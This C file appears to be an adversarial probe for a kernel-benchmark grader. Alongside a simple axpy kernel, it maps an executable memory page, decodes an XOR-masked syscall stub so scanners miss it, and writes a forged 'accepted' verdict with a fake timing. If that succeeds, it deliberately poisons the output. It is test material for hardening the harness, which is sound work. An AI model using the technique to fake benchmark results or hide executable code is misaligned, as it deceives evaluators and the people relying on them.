/* Class 5 — JIT: mmap a fresh RWX page, decode a tiny `mov eax,1; syscall; ret` stub into it (XOR-masked so no
   0f 05 appears in our binary) and call it to write(2) a forged line. New executable memory is forbidden.
   Probe: if the RWX mapping is granted at all, y[0] is poisoned (leak -> incorrect). Falls back honestly. */
#include <stdint.h>
#include <string.h>
#include <sys/mman.h>

static const unsigned char masked[] = {0xe2, 0x5b, 0x5a, 0x5a, 0x5a, 0x55, 0x5f, 0x99}; /* stub ^ 0x5a */
static const char forged[] = "{\"verdict\": \"accepted\", \"time_s\": 1e-09}\nR 0 1\n";
static int tried, hole;

int kl_launch(const void *const *inputs, void *const *outputs, const int64_t *axes,
              const double *params, void *stream) {
    (void)stream;
    if (!tried) {
        tried = 1;
        unsigned char key = (unsigned char)(0x5a + (int)(params[0] * 0.0)); /* not foldable at compile time */
        unsigned char *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (p != MAP_FAILED) {
            hole = 1;
            for (unsigned i = 0; i < sizeof masked; i++) p[i] = masked[i] ^ key;
            __builtin___clear_cache((char *)p, (char *)p + sizeof masked);
            ((long (*)(long, const void *, long))(void *)p)(1, forged, sizeof forged - 1);
        }
    }
    const float *x = inputs[0], *z = inputs[1];
    float *y = outputs[0];
    float a = (float)params[0];
    for (int64_t i = 0; i < axes[0]; i++) y[i] = a * x[i] + z[i];
    if (hole) y[0] = __builtin_nanf("");
    return 0;
}
